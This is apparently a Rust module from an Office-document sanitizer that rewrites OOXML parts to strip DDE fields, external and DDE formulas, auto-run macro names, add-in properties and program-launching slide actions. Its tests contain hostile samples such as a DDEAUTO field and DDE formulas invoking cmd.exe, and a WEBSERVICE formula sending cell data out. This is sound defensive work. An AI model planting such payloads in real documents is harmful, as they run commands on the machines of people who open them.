//! The streaming rewriter for one XML part of a package.
//!
//! It reads the part event by event and writes the same events back, leaving out:
//! - every element (or, for a few elements that carry content of their own, only the attribute)
//!   that points to a relationship the package rebuild removed;
//! - Word field codes that run, fetch or include something (DDE, DDEAUTO, INCLUDETEXT, LINK ...):
//!   the field markers and the code go, the displayed result stays;
//! - spreadsheet formulas that call DDE or read other workbooks (the cached value stays), defined
//!   names that start macros, and the entries of removed macro sheets;
//! - DrawingML actions that run programs, macros or OLE verbs (`ppaction://program` ...).
//!
//! Containers that may not be empty (`controls`, `oleObjects`, `externalReferences`) are held
//! back until their end and dropped when nothing is left in them.

use super::fields::{self, FieldClass, ScannedField};
use crate::config::HyperlinkPolicy;
use crate::engine::Budget;
use crate::formats::xml::{self, local};
use crate::formats::FormatError;
use crate::model::{Action, ActionKind};
use quick_xml::events::attributes::Attribute;
use quick_xml::events::{BytesStart, Event};
use quick_xml::name::ResolveResult;
use quick_xml::reader::NsReader;
use quick_xml::Writer;
use std::collections::HashSet;

/// What kind of part this is, for the rules that only apply to some parts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Role {
    /// A WordprocessingML story (document, headers, footers, notes, comments, glossary).
    WordStory,
    /// A SpreadsheetML worksheet (or chartsheet / dialog sheet).
    Worksheet,
    /// The SpreadsheetML workbook; the positions (0-based) of `<sheet>` entries being removed.
    Workbook { removed_sheets: Vec<usize> },
    /// Custom document properties (`docProps/custom.xml`).
    CustomProperties,
    /// Anything else.
    Other,
}

pub struct PartPlan<'a> {
    pub part: &'a str,
    pub role: Role,
    /// Relationship ids of this part's relationships that the rebuild removes.
    pub removed_ids: &'a HashSet<String>,
    pub max_depth: u32,
    /// Which hyperlinks survive (HYPERLINK field codes follow it too).
    pub hyperlinks: HyperlinkPolicy,
}

#[derive(Debug, Default)]
pub struct PartOutput {
    /// The rewritten part, or `None` when nothing had to change.
    pub data: Option<Vec<u8>>,
    pub actions: Vec<Action>,
    /// Relationship ids whose referencing elements were dropped for what they did.
    pub dropped_ids: HashSet<String>,
    /// Relationship ids still referenced from the output.
    pub kept_ids: HashSet<String>,
    /// True when a cell formula was removed (the calculation chain must go).
    pub formulas_removed: bool,
}

const REL_NAMESPACES: &[&[u8]] = &[
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    b"http://purl.oclc.org/ooxml/officeDocument/relationships",
];
const VML_OFFICE_NS: &[u8] = b"urn:schemas-microsoft-com:office:office";

/// Elements that keep a value of their own when their reference goes: only the attribute is
/// removed (a picture keeps its embedded image when its linked copy goes, a hyperlink keeps its
/// text, an OLE frame in a slide keeps its preview picture).
const ATTRIBUTE_ONLY: &[&[u8]] = &[
    b"blip",
    b"hlinkClick",
    b"hlinkHover",
    b"hlinkMouseOver",
    b"hyperlink",
    b"imagedata",
    b"oleObj",
    b"fill",
    b"stroke",
];

/// Containers whose schema needs at least one child: dropped when emptied.
const NON_EMPTY_CONTAINERS: &[&[u8]] = &[b"controls", b"oleObjects", b"externalReferences"];

/// Wrapper elements that do not count as content of a container.
const TRANSPARENT: &[&[u8]] = &[b"AlternateContent", b"Choice", b"Fallback"];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    Emit,
    Unwrap,
}

struct Frame {
    local: Vec<u8>,
    mode: Mode,
    buffered: bool,
}

enum BufKind {
    Container,
    Formula { shared_si: Option<String> },
    DefinedName,
}

struct Buf {
    kind: BufKind,
    events: Vec<Event<'static>>,
    text: String,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Phase {
    Code,
    Result,
}

struct FieldFrame {
    class: FieldClass,
    phase: Phase,
}

enum Decision<'a> {
    Emit(BytesStart<'a>),
    Drop,
    Unwrap,
}

struct Rewriter<'p, 'b> {
    plan: &'p PartPlan<'p>,
    budget: &'b Budget,
    field_classes: Vec<ScannedField>,
    field_counter: usize,
    fields: Vec<FieldFrame>,
    writer: Writer<Vec<u8>>,
    frames: Vec<Frame>,
    bufs: Vec<Buf>,
    skip: usize,
    changed: bool,
    sheet_pos: usize,
    removed_shared: HashSet<String>,
    out: PartOutput,
}

/// Rewrites one part according to its plan. Returns the new bytes only if something changed.
pub fn rewrite(data: &[u8], plan: &PartPlan<'_>, budget: &Budget) -> Result<PartOutput, FormatError> {
    let field_classes = if plan.role == Role::WordStory {
        fields::scan(data, plan.part, plan.max_depth, plan.hyperlinks)?
    } else {
        Vec::new()
    };
    let mut rw = Rewriter {
        plan,
        budget,
        field_classes,
        field_counter: 0,
        fields: Vec::new(),
        writer: Writer::new(Vec::with_capacity(data.len())),
        frames: Vec::new(),
        bufs: Vec::new(),
        skip: 0,
        changed: false,
        sheet_pos: 0,
        removed_shared: HashSet::new(),
        out: PartOutput::default(),
    };
    rw.run(data)?;
    let mut out = rw.out;
    if rw.changed {
        out.data = Some(rw.writer.into_inner());
    }
    Ok(out)
}

impl<'p, 'b> Rewriter<'p, 'b> {
    fn run(&mut self, data: &[u8]) -> Result<(), FormatError> {
        let part = self.plan.part;
        let mut reader = xml::rewrite_reader(data);
        let mut count: u64 = 0;
        loop {
            count += 1;
            if count.is_multiple_of(65_536) {
                self.budget.check_time()?;
            }
            let ev = reader.read_event().map_err(|e| xml::parse_error(part, e))?;
            match ev {
                Event::Eof => break,
                Event::DocType(_) => return Err(xml::doctype_error(part)),
                Event::Start(e) => {
                    if self.skip > 0 {
                        self.skip += 1;
                        self.check_depth()?;
                        continue;
                    }
                    self.check_depth()?;
                    let name = local(e.name().as_ref()).to_vec();
                    match self.on_start(&reader, e)? {
                        Decision::Drop => {
                            self.changed = true;
                            self.skip = 1;
                        }
                        Decision::Unwrap => {
                            self.changed = true;
                            self.frames.push(Frame { local: name, mode: Mode::Unwrap, buffered: false });
                        }
                        Decision::Emit(e) => {
                            let buffered = self.open_buffer(&name, &e);
                            self.emit(Event::Start(e))?;
                            self.frames.push(Frame { local: name, mode: Mode::Emit, buffered });
                        }
                    }
                }
                Event::Empty(e) => {
                    if self.skip > 0 {
                        continue;
                    }
                    match self.on_start(&reader, e)? {
                        Decision::Drop | Decision::Unwrap => self.changed = true,
                        Decision::Emit(e) => {
                            if self.drop_shared_dependent(&e) {
                                self.changed = true;
                                self.out.formulas_removed = true;
                            } else {
                                self.emit(Event::Empty(e))?;
                            }
                        }
                    }
                }
                Event::End(e) => {
                    if self.skip > 0 {
                        self.skip -= 1;
                        continue;
                    }
                    let Some(frame) = self.frames.pop() else {
                        return Err(xml::parse_error(part, "unbalanced end tag"));
                    };
                    if frame.mode == Mode::Emit {
                        self.emit(Event::End(e))?;
                    }
                    if frame.buffered {
                        self.close_buffer()?;
                    }
                }
                Event::Text(t) => {
                    if self.skip > 0 {
                        continue;
                    }
                    if let Some(b) = self.bufs.last_mut() {
                        if !matches!(b.kind, BufKind::Container) {
                            match t.unescape() {
                                Ok(s) => b.text.push_str(&s),
                                Err(_) => b.text.push_str(&String::from_utf8_lossy(&t)),
                            }
                        }
                    }
                    self.emit(Event::Text(t))?;
                }
                other => {
                    if self.skip == 0 {
                        self.emit(other)?;
                    }
                }
            }
        }
        if !self.frames.is_empty() || self.skip > 0 {
            return Err(xml::parse_error(part, "unexpected end of document"));
        }
        Ok(())
    }

    fn check_depth(&self) -> Result<(), FormatError> {
        if self.frames.len() + self.skip > self.plan.max_depth as usize {
            return Err(xml::depth_error(self.plan.part, self.plan.max_depth));
        }
        Ok(())
    }

    fn emit(&mut self, ev: Event<'_>) -> Result<(), FormatError> {
        if let Some(b) = self.bufs.last_mut() {
            b.events.push(ev.into_owned());
            return Ok(());
        }
        self.writer
            .write_event(ev)
            .map_err(|e| FormatError::new(crate::model::Reason::InternalError, format!("XML write: {e}")))
    }

    fn action(&mut self, kind: ActionKind, detail: Option<String>) {
        let part = self.plan.part.to_string();
        self.out.actions.push(match detail {
            Some(d) => Action::with_detail(kind, part, d),
            None => Action::new(kind, part),
        });
    }

    fn in_dangerous_code(&self) -> bool {
        self.fields.iter().any(|f| f.class != FieldClass::Safe && f.phase == Phase::Code)
    }

    fn parent_is(&self, name: &[u8]) -> bool {
        self.frames.last().map(|f| f.local.as_slice() == name).unwrap_or(false)
    }

    /// Decides what happens to a start (or empty) element.
    fn on_start<'e>(&mut self, reader: &NsReader<&[u8]>, e: BytesStart<'e>) -> Result<Decision<'e>, FormatError> {
        let qname = e.name();
        let name = local(qname.as_ref()).to_vec();
        let name = name.as_slice();

        // Word fields.
        if self.plan.role == Role::WordStory {
            if let Some(d) = self.word_field(&e, name) {
                return Ok(d);
            }
            if self.in_dangerous_code() && self.parent_is(b"r") && name != b"rPr" {
                return Ok(Decision::Drop);
            }
        }

        // Custom properties that make Office load a document-level add-in on open.
        if self.plan.role == Role::CustomProperties && name == b"property" {
            let prop = xml::attr(&e, b"name").unwrap_or_default();
            if prop.eq_ignore_ascii_case("_AssemblyLocation") || prop.eq_ignore_ascii_case("_AssemblyName") {
                self.action(ActionKind::RemovedAddinReference, Some(prop));
                return Ok(Decision::Drop);
            }
        }

        // DrawingML click/hover actions that run programs, macros or OLE verbs.
        if matches!(name, b"hlinkClick" | b"hlinkHover" | b"hlinkMouseOver") {
            if let Some(action) = xml::attr(&e, b"action") {
                let a = action.to_ascii_lowercase();
                if a.starts_with("ppaction://program")
                    || a.starts_with("ppaction://macro")
                    || a.starts_with("ppaction://ole")
                {
                    rel_attr_values(reader, &e, |id| {
                        self.out.dropped_ids.insert(id);
                    });
                    self.action(ActionKind::RemovedProgramAction, Some(action));
                    return Ok(Decision::Drop);
                }
            }
        }

        // Workbook: macro-sheet entries, auto-run names, sheet positions.
        // The plan outlives the rewriter, so its sheet list is borrowed, not copied per element.
        let plan = self.plan;
        if let Role::Workbook { removed_sheets } = &plan.role {
            match name {
                b"sheet" => {
                    let pos = self.sheet_pos;
                    self.sheet_pos += 1;
                    if removed_sheets.contains(&pos) {
                        return Ok(Decision::Drop);
                    }
                }
                b"definedName" => {
                    let nm = xml::attr(&e, b"name").unwrap_or_default();
                    if is_auto_macro_name(&nm) || is_macro_name_flag(&e) {
                        self.action(ActionKind::RemovedAutoMacroName, Some(nm));
                        return Ok(Decision::Drop);
                    }
                    if let Some(id) = xml::attr(&e, b"localSheetId") {
                        match remap_sheet(&id, removed_sheets) {
                            None => return Ok(Decision::Drop),
                            Some(new) if new != id => {
                                self.changed = true;
                                return Ok(Decision::Emit(with_attr(&e, b"localSheetId", &new)));
                            }
                            _ => {}
                        }
                    }
                }
                b"workbookView" if !removed_sheets.is_empty() => {
                    let mut e2 = e.clone().into_owned();
                    for key in [&b"activeTab"[..], b"firstSheet"] {
                        if let Some(v) = xml::attr(&e2, key) {
                            let new = remap_sheet(&v, removed_sheets).unwrap_or_else(|| "0".into());
                            if new != v {
                                e2 = with_attr(&e2, key, &new).into_owned();
                                self.changed = true;
                            }
                        }
                    }
                    return Ok(Decision::Emit(e2));
                }
                _ => {}
            }
        }

        // References to removed relationships.
        if !self.plan.removed_ids.is_empty() {
            let mut remove_attrs: Vec<Vec<u8>> = Vec::new();
            for a in e.attributes().with_checks(false).flatten() {
                if is_rel_attr(reader, &a) {
                    let v = String::from_utf8_lossy(&a.value).into_owned();
                    if self.plan.removed_ids.contains(&v) {
                        if !ATTRIBUTE_ONLY.contains(&name) {
                            return Ok(Decision::Drop);
                        }
                        remove_attrs.push(a.key.as_ref().to_vec());
                    }
                }
            }
            if !remove_attrs.is_empty() {
                self.changed = true;
                let e2 = without_attrs(&e, &remove_attrs);
                self.note_kept(reader, &e2);
                return Ok(Decision::Emit(e2));
            }
        }
        self.note_kept(reader, &e);
        Ok(Decision::Emit(e))
    }

    fn note_kept(&mut self, reader: &NsReader<&[u8]>, e: &BytesStart<'_>) {
        rel_attr_values(reader, e, |id| {
            self.out.kept_ids.insert(id);
        });
    }

    /// Word complex and simple fields. Returns a decision for field markers and `fldSimple`.
    fn word_field<'e>(&mut self, e: &BytesStart<'e>, name: &[u8]) -> Option<Decision<'e>> {
        match name {
            b"fldChar" => {
                let ty = xml::attr(e, b"fldCharType").unwrap_or_default();
                match ty.as_str() {
                    "begin" => {
                        let (class, code) = match self.field_classes.get(self.field_counter) {
                            Some(f) => (f.class, f.code.clone()),
                            None => (FieldClass::Dangerous, String::new()),
                        };
                        self.field_counter += 1;
                        let inside = self.in_dangerous_code();
                        self.fields.push(FieldFrame { class, phase: Phase::Code });
                        if class != FieldClass::Safe && !inside {
                            let kind = match class {
                                FieldClass::Dde => ActionKind::RemovedDdeField,
                                FieldClass::ExternalLink => ActionKind::RemovedExternalReference,
                                _ => ActionKind::RemovedDangerousField,
                            };
                            self.action(kind, Some(code));
                        }
                        if class != FieldClass::Safe || inside {
                            return Some(Decision::Drop);
                        }
                        None
                    }
                    "separate" => {
                        let inside = self.in_dangerous_code();
                        let top = self.fields.last_mut()?;
                        let drop = inside || top.class != FieldClass::Safe;
                        top.phase = Phase::Result;
                        drop.then_some(Decision::Drop)
                    }
                    "end" => {
                        let top_class = self.fields.last().map(|f| f.class)?;
                        let outer_code = self.fields[..self.fields.len() - 1]
                            .iter()
                            .any(|f| f.class != FieldClass::Safe && f.phase == Phase::Code);
                        self.fields.pop();
                        (outer_code || top_class != FieldClass::Safe).then_some(Decision::Drop)
                    }
                    _ => None,
                }
            }
            b"fldSimple" => {
                let instr = xml::attr(e, b"instr").unwrap_or_default();
                match fields::classify(&instr, false, self.plan.hyperlinks) {
                    FieldClass::Safe => None,
                    FieldClass::Dde => {
                        self.action(ActionKind::RemovedDdeField, Some(instr));
                        Some(Decision::Unwrap)
                    }
                    FieldClass::Dangerous => {
                        self.action(ActionKind::RemovedDangerousField, Some(instr));
                        Some(Decision::Unwrap)
                    }
                    FieldClass::ExternalLink => {
                        self.action(ActionKind::RemovedExternalReference, Some(instr));
                        Some(Decision::Unwrap)
                    }
                }
            }
            _ => None,
        }
    }

    /// Starts holding events back for containers, formulas and defined names.
    fn open_buffer(&mut self, name: &[u8], e: &BytesStart<'_>) -> bool {
        let kind = if NON_EMPTY_CONTAINERS.contains(&name) {
            BufKind::Container
        } else if self.plan.role == Role::Worksheet && name == b"f" {
            let shared = xml::attr(e, b"t").as_deref() == Some("shared");
            let si = if shared { xml::attr(e, b"si") } else { None };
            BufKind::Formula { shared_si: si }
        } else if matches!(self.plan.role, Role::Workbook { .. }) && name == b"definedName" {
            BufKind::DefinedName
        } else {
            return false;
        };
        self.bufs.push(Buf { kind, events: Vec::new(), text: String::new() });
        true
    }

    fn close_buffer(&mut self) -> Result<(), FormatError> {
        let Some(buf) = self.bufs.pop() else { return Ok(()) };
        let keep = match &buf.kind {
            BufKind::Container => buf.events.iter().skip(1).any(|ev| match ev {
                Event::Start(s) | Event::Empty(s) => !TRANSPARENT.contains(&local(s.name().as_ref())),
                _ => false,
            }),
            BufKind::Formula { shared_si } => match formula_threat(&buf.text) {
                None => true,
                Some(kind) => {
                    if let Some(si) = shared_si {
                        self.removed_shared.insert(si.clone());
                    }
                    self.out.formulas_removed = true;
                    self.action(kind, Some(buf.text.clone()));
                    false
                }
            },
            BufKind::DefinedName => match formula_threat(&buf.text) {
                None => true,
                Some(kind) => {
                    self.action(kind, Some(buf.text.clone()));
                    false
                }
            },
        };
        if keep {
            for ev in buf.events {
                self.emit(ev)?;
            }
        } else {
            self.changed = true;
        }
        Ok(())
    }

    /// `<f t="shared" si="N"/>` cells that reuse a removed shared formula go with it.
    fn drop_shared_dependent(&self, e: &BytesStart<'_>) -> bool {
        self.plan.role == Role::Worksheet
            && local(e.name().as_ref()) == b"f"
            && xml::attr(e, b"si").map(|si| self.removed_shared.contains(&si)).unwrap_or(false)
    }
}

fn is_rel_attr(reader: &NsReader<&[u8]>, a: &Attribute<'_>) -> bool {
    let (ns, local_name) = reader.resolve_attribute(a.key);
    match ns {
        ResolveResult::Bound(ns) => {
            REL_NAMESPACES.contains(&ns.as_ref()) || (ns.as_ref() == VML_OFFICE_NS && local_name.as_ref() == b"relid")
        }
        _ => false,
    }
}

/// Calls `f` with the value of each relationship attribute of `e` (no allocation for the many
/// elements that have none).
fn rel_attr_values(reader: &NsReader<&[u8]>, e: &BytesStart<'_>, mut f: impl FnMut(String)) {
    for a in e.attributes().with_checks(false).flatten() {
        if is_rel_attr(reader, &a) {
            f(String::from_utf8_lossy(&a.value).into_owned());
        }
    }
}

fn without_attrs<'a>(e: &BytesStart<'a>, keys: &[Vec<u8>]) -> BytesStart<'a> {
    let mut out = BytesStart::new(String::from_utf8_lossy(e.name().as_ref()).into_owned());
    for a in e.attributes().with_checks(false).flatten() {
        if !keys.iter().any(|k| k.as_slice() == a.key.as_ref()) {
            out.push_attribute(a);
        }
    }
    out
}

fn with_attr<'a>(e: &BytesStart<'a>, key_local: &[u8], value: &str) -> BytesStart<'a> {
    let mut out = BytesStart::new(String::from_utf8_lossy(e.name().as_ref()).into_owned());
    for a in e.attributes().with_checks(false).flatten() {
        if local(a.key.as_ref()) == key_local {
            out.push_attribute((a.key.as_ref(), value.as_bytes()));
        } else {
            out.push_attribute(a);
        }
    }
    out
}

/// New position of a sheet index after removing `removed` positions; `None` when it was removed.
fn remap_sheet(id: &str, removed: &[usize]) -> Option<String> {
    let Ok(n) = id.trim().parse::<usize>() else { return Some(id.to_string()) };
    if removed.contains(&n) {
        return None;
    }
    Some((n - removed.iter().filter(|r| **r < n).count()).to_string())
}

/// Defined names that Excel runs by themselves (`Auto_Open` and friends, in any case, with or
/// without the `_xlnm.` prefix and with any suffix, as Excel matches them by prefix).
pub fn is_auto_macro_name(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    let n = n.strip_prefix("_xlnm.").unwrap_or(&n);
    ["auto_open", "auto_close", "auto_activate", "auto_deactivate"].iter().any(|p| n.starts_with(p))
}

fn is_macro_name_flag(e: &BytesStart<'_>) -> bool {
    [&b"xlm"[..], b"vbProcedure", b"function"]
        .iter()
        .any(|k| matches!(xml::attr(e, k).as_deref(), Some("1") | Some("true")))
}

/// Worksheet functions that reach outside the workbook or call code when the sheet recalculates.
const CALLING_OUT: &[&str] = &["WEBSERVICE", "RTD", "CALL", "REGISTER", "REGISTER.ID", "EXEC"];

/// Whether a spreadsheet formula calls DDE (`app|topic!item`), reads another workbook
/// (`[1]Sheet1!A1`) or calls a function that reaches out (`WEBSERVICE`, `RTD`, `CALL`, an add-in
/// function `_xll.*`). Text inside double-quoted strings does not count; a `|` inside a quoted
/// sheet name does not either.
pub fn formula_threat(f: &str) -> Option<ActionKind> {
    let chars: Vec<char> = f.chars().collect();
    let mut in_dq = false;
    let mut in_sq = false;
    let mut external = false;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '"' if !in_sq => in_dq = !in_dq,
            '\'' if !in_dq => in_sq = !in_sq,
            '|' if !in_dq && !in_sq => return Some(ActionKind::RemovedDdeFormula),
            '(' if !in_dq && !in_sq => {
                let mut j = i;
                while j > 0 && (chars[j - 1].is_alphanumeric() || chars[j - 1] == '.' || chars[j - 1] == '_') {
                    j -= 1;
                }
                let name: String = chars[j..i].iter().collect::<String>().to_ascii_uppercase();
                let bare = name.strip_prefix("_XLFN.").unwrap_or(&name);
                if name.starts_with("_XLL.") || CALLING_OUT.contains(&bare) {
                    external = true;
                }
            }
            '[' if !in_dq => {
                let mut j = i + 1;
                while j < chars.len() && chars[j].is_ascii_digit() {
                    j += 1;
                }
                if j > i + 1 && j < chars.len() && chars[j] == ']' {
                    let digits: String = chars[i + 1..j].iter().collect();
                    if !digits.trim_start_matches('0').is_empty() {
                        external = true;
                    }
                }
            }
            _ => {}
        }
        i += 1;
    }
    external.then_some(ActionKind::RemovedExternalFormula)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Config;

    fn run(xml: &str, role: Role, removed: &[&str]) -> PartOutput {
        let removed: HashSet<String> = removed.iter().map(|s| s.to_string()).collect();
        let plan =
            PartPlan { part: "p.xml", role, removed_ids: &removed, max_depth: 64, hyperlinks: HyperlinkPolicy::Web };
        let budget = Budget::new(&Config::default().limits);
        rewrite(xml.as_bytes(), &plan, &budget).unwrap()
    }

    fn text(o: &PartOutput) -> String {
        String::from_utf8(o.data.clone().expect("changed")).unwrap()
    }

    const W: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;

    #[test]
    fn unchanged_part_is_not_rewritten() {
        let o = run(
            &format!("<w:document {W}><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>"),
            Role::WordStory,
            &[],
        );
        assert!(o.data.is_none());
    }

    #[test]
    fn dde_field_code_goes_and_result_stays() {
        let doc = format!(
            r#"<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Kept result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#
        );
        let o = run(&doc, Role::WordStory, &[]);
        let t = text(&o);
        assert!(!t.contains("DDEAUTO") && !t.contains("fldChar"), "{t}");
        assert!(t.contains("Kept result"));
        assert_eq!(o.actions[0].action, ActionKind::RemovedDdeField);
    }

    #[test]
    fn safe_fields_stay_and_nested_dynamic_code_goes() {
        let page = format!(
            r#"<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#
        );
        assert!(run(&page, Role::WordStory, &[]).data.is_none());
        // { { QUOTE 68 68 69 } ... }: the outer instruction is built at run time.
        let nested = format!(
            r#"<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>visible</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#
        );
        let o = run(&nested, Role::WordStory, &[]);
        let t = text(&o);
        assert!(!t.contains("fldChar") && !t.contains("QUOTE") && !t.contains(">DDE<"), "{t}");
        assert!(t.contains("visible"));
    }

    #[test]
    fn fld_simple_is_unwrapped() {
        let doc = format!(
            r#"<w:document {W}><w:body><w:p><w:fldSimple w:instr="DDE cmd x"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p></w:body></w:document>"#
        );
        let t = text(&run(&doc, Role::WordStory, &[]));
        assert!(!t.contains("fldSimple") && t.contains("shown"));
    }

    #[test]
    fn removed_references_drop_elements_or_attributes() {
        let doc = format!(
            r#"<w:document {W} xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body><w:p><w:r><w:object><v:shape><v:imagedata r:id="rId5"/></v:shape><o:OLEObject Type="Embed" r:id="rId6"/></w:object></w:r><w:r><a:blip r:embed="rId7" r:link="rId8"/></w:r></w:p></w:body></w:document>"#
        );
        let o = run(&doc, Role::WordStory, &["rId6", "rId8"]);
        let t = text(&o);
        assert!(!t.contains("OLEObject") && t.contains("imagedata"));
        assert!(t.contains(r#"r:embed="rId7""#) && !t.contains("rId8"));
        assert!(o.kept_ids.contains("rId5") && o.kept_ids.contains("rId7"));
    }

    #[test]
    fn emptied_containers_are_dropped() {
        let sheet = r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><sheetData/><controls><mc:AlternateContent><mc:Choice Requires="x14"><control r:id="rId3"/></mc:Choice><mc:Fallback><control r:id="rId3"/></mc:Fallback></mc:AlternateContent></controls></worksheet>"#;
        let t = text(&run(sheet, Role::Worksheet, &["rId3"]));
        assert!(!t.contains("controls") && t.contains("sheetData"), "{t}");
    }

    #[test]
    fn dde_and_external_formulas_lose_the_formula_but_keep_the_value() {
        let sheet = r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f><v>0</v></c><c r="B1"><f t="shared" ref="B1:B2" si="0">[1]Sheet1!A1</f><v>5</v></c><c r="C1"><f>SUM(A1:B1)</f><v>5</v></c></row><row r="2"><c r="B2"><f t="shared" si="0"/><v>6</v></c><c r="C2"><f>"a|b"&amp;'x|y'!A1</f><v>1</v></c></row></sheetData></worksheet>"#;
        let o = run(sheet, Role::Worksheet, &[]);
        let t = text(&o);
        assert!(!t.contains("cmd|") && !t.contains("[1]") && !t.contains(r#"si="0"/>"#), "{t}");
        assert!(t.contains("SUM(A1:B1)") && t.contains("<v>5</v>") && t.contains("<v>6</v>") && t.contains("a|b"));
        assert!(o.formulas_removed);
        let kinds: Vec<_> = o.actions.iter().map(|a| a.action).collect();
        assert_eq!(kinds, vec![ActionKind::RemovedDdeFormula, ActionKind::RemovedExternalFormula]);
    }

    #[test]
    fn workbook_loses_macro_sheet_and_auto_names_and_remaps_indexes() {
        let wb = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><bookViews><workbookView activeTab="2"/></bookViews><sheets><sheet name="A" sheetId="1" r:id="rId1"/><sheet name="M" sheetId="2" r:id="rId2"/><sheet name="B" sheetId="3" r:id="rId3"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName><definedName name="x" localSheetId="1">M!$A$1</definedName><definedName name="_xlnm.Print_Area" localSheetId="2">B!$A$1</definedName></definedNames></workbook>"#;
        let o = run(wb, Role::Workbook { removed_sheets: vec![1] }, &["rId2"]);
        let t = text(&o);
        assert!(!t.contains(r#"name="M""#) && !t.contains("Auto_Open") && !t.contains(r#"name="x""#), "{t}");
        assert!(t.contains(r#"localSheetId="1">B!"#) && t.contains(r#"activeTab="1""#), "{t}");
    }

    #[test]
    fn add_in_custom_properties_are_removed() {
        let props = r#"<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="_AssemblyLocation"><vt:lpwstr>http://x/a.vsto|vstolocal</vt:lpwstr></property><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="Department"><vt:lpwstr>Radiology</vt:lpwstr></property></Properties>"#;
        let o = run(props, Role::CustomProperties, &[]);
        let t = text(&o);
        assert!(!t.contains("vsto") && t.contains("Radiology"), "{t}");
        assert_eq!(o.actions[0].action, ActionKind::RemovedAddinReference);
    }

    #[test]
    fn program_actions_are_removed() {
        let slide = r#"<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:hlinkClick r:id="rId2" action="ppaction://program"/><a:hlinkClick r:id="rId3"/></p:sld>"#;
        let o = run(slide, Role::Other, &[]);
        assert!(o.dropped_ids.contains("rId2") && o.kept_ids.contains("rId3"));
        assert!(!text(&o).contains("ppaction"));
    }

    #[test]
    fn doctype_is_refused_and_depth_is_bounded() {
        let removed = HashSet::new();
        let budget = Budget::new(&Config::default().limits);
        let plan = PartPlan {
            part: "p.xml",
            role: Role::Other,
            removed_ids: &removed,
            max_depth: 16,
            hyperlinks: HyperlinkPolicy::Web,
        };
        let bomb = r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>"#;
        assert_eq!(rewrite(bomb.as_bytes(), &plan, &budget).unwrap_err().reason, crate::model::Reason::XmlDoctype);
        let deep = format!("{}{}", "<a>".repeat(100), "</a>".repeat(100));
        assert_eq!(rewrite(deep.as_bytes(), &plan, &budget).unwrap_err().reason, crate::model::Reason::LimitXmlDepth);
    }

    #[test]
    fn formula_classification() {
        assert_eq!(formula_threat("SUM(A1:A3)"), None);
        assert_eq!(formula_threat("'[2]My Sheet'!B2"), Some(ActionKind::RemovedExternalFormula));
        assert_eq!(formula_threat("Table1[Col]"), None);
        assert_eq!(formula_threat("MSEXCEL|'\\..\\cmd.exe /c calc'!''"), Some(ActionKind::RemovedDdeFormula));
        assert_eq!(formula_threat("\"[1]\""), None);
        assert_eq!(formula_threat("_xlfn.WEBSERVICE(\"http://x/?\"&A1)"), Some(ActionKind::RemovedExternalFormula));
        assert_eq!(formula_threat("rtd(\"srv\",,\"t\")"), Some(ActionKind::RemovedExternalFormula));
        assert_eq!(formula_threat("_xll.MyAddinFn(1)"), Some(ActionKind::RemovedExternalFormula));
        assert_eq!(formula_threat("RECALL(1)+SUM(A1)"), None);
        assert_eq!(formula_threat("\"CALL(\"&A1"), None);
    }
}
